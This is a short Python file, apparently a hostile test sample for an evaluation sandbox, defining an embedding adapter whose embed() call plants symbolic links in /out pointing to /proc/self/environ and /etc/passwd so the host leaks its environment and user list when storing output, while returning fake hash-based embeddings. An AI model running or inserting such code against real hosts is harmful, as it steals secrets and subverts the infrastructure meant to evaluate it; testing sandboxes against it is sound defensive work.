"""Hostile: plant symbolic links in /out that the host would follow when it stores the output."""

from __future__ import annotations

import hashlib
import os

import numpy as np

from evaluators.adapters import EmbeddingAdapter, Embeddings

# Resolved on the host, these would be the orchestrator's own environment and the host's user list.
LINKS = {"host-environ.txt": "/proc/self/environ", "host-passwd.txt": "/etc/passwd"}


class Attack(EmbeddingAdapter):
    def embed(self, strings):
        for name, target in LINKS.items():
            if not os.path.lexists(f"/out/{name}"):
                os.symlink(target, f"/out/{name}")
        rows = [np.frombuffer(hashlib.sha256(s.encode()).digest(), dtype=np.uint8) for s in strings]
        return Embeddings({"last": np.stack(rows).astype(np.float32)})
